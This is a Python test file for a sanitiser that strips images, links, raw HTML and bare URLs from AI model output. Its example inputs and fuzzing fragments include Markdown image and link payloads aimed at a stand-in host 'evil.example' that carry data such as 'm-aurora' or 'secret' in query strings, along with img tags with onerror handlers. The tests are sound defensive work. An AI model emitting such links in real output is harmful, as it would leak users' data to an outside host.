"""Model output stripped of what rendered Markdown could send data with: images, links,
reference links and definitions, autolinks, raw HTML, bare URLs; examples, then properties."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.ai.markdown_safety import strip_links

pytestmark = pytest.mark.unit

EXAMPLES = (
    ("Top ![chart](https://evil.example/?d=m-aurora) merchant", "Top  merchant"),
    ('![a [nested] alt](https://evil.example/x "title")', ""),
    ("![alt][logo]\n\n[logo]: https://evil.example/logo.png", "\n\n"),
    ("Aurora [leads](https://evil.example/?q=secret).", "Aurora leads."),
    ('[the [big] one](https://evil.example/a_(b) "t")', "the [big] one"),
    ("[see](<https://evil.example/a b>)", "see"),
    ("[![badge](https://evil.example/i.png)](https://evil.example/)", ""),
    ("[docs][1] and [more][]\n\n[1]: https://evil.example/ 'title'\nend", "docs and more\n\nend"),
    ("[ref]:\n   https://evil.example/next-line\n[ref]", "[ref]"),
    ("<img src=https://evil.example/p.png>", ""),
    ('<IMG SRC="https://evil.example/p.png" onerror="x">', ""),
    ("<img src=https://evil.example/unclosed", ""),
    ('<a href="https://evil.example/">click here</a>', "click here"),
    ("<https://evil.example/?q=1> and <someone@example.com>", " and "),
    ("<!-- <img src=x> -->kept", "kept"),
    ("<<img>img src=x>", ""),
    ("go to https://evil.example/?q=1 or www.evil.example/x now", "go to  or  now"),
    ("> [quoted]: https://evil.example/\n[quoted]", "> [quoted] : \n[quoted]"),
    ("a ]( b ][ c ]: d", "a ] ( b ] [ c ] : d"),
)


@pytest.mark.parametrize(("text", "safe"), EXAMPLES, ids=lambda v: repr(v)[:40])
def test_images_links_html_and_urls_are_taken_out(text: str, safe: str) -> None:
    assert strip_links(text) == safe


@pytest.mark.parametrize(
    "text",
    (
        "Merchant m-aurora sold 3 items for 37.50 EUR on 2024-05-01.",
        "Sales grew 5% (from 10 to 10.5); 3 < 5 and 7 > 2.",
        "Items [a] and [b] (both new) lead; see note [1].",
        "- one\n- two\n\n**bold** and `code` and _emphasis_",
    ),
)
def test_plain_text_and_harmless_markdown_are_kept(text: str) -> None:
    assert strip_links(text) == text


# A link to a URL (absolute, protocol-relative or www.): what must never survive, nor `<img`.
LINK_TO_URL = re.compile(r"\]\(\s*<?\s*(?:[a-z][a-z0-9+.-]*:|//|www\.)", re.IGNORECASE)
FRAGMENTS = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "][",
        "]:",
        "<",
        ">",
        "<img",
        "<IMG ",
        "<a href=",
        "</a>",
        "<!--",
        "-->",
        "\\",
        '"',
        "'",
        " ",
        "\n",
        "   ",
        "http://evil.example/?q=",
        "https://",
        "//evil.example",
        "mailto:x@y.z",
        "www.",
        "data:image/png;base64,AAAA",
        "javascript:",
        "text",
        "alt",
        "1",
        ":",
        "`",
    ]
)
MARKDOWNISH = st.lists(FRAGMENTS | st.text(max_size=3), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(MARKDOWNISH)
def test_no_link_to_a_url_or_image_tag_survives(text: str) -> None:
    safe = strip_links(text)
    assert LINK_TO_URL.search(safe) is None
    assert "<img" not in safe.lower()
    assert "](" not in safe and "]:" not in safe and "][" not in safe
    assert re.search(r"https?://|\bwww\.", safe, re.IGNORECASE) is None


@settings(max_examples=200, deadline=None)
@given(MARKDOWNISH)
def test_stripping_is_idempotent(text: str) -> None:
    once = strip_links(text)
    assert strip_links(once) == once


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_characters="[]<>!():/\\w"), max_size=200))
def test_text_without_link_syntax_is_unchanged(text: str) -> None:
    assert strip_links(text) == text


def test_hostile_nesting_ends_quickly() -> None:
    text = "[" * 5000 + "x" + "](" * 5000 + "https://evil.example/" + ")" * 5000
    safe = strip_links(text)
    assert LINK_TO_URL.search(safe) is None and "evil.example" not in safe
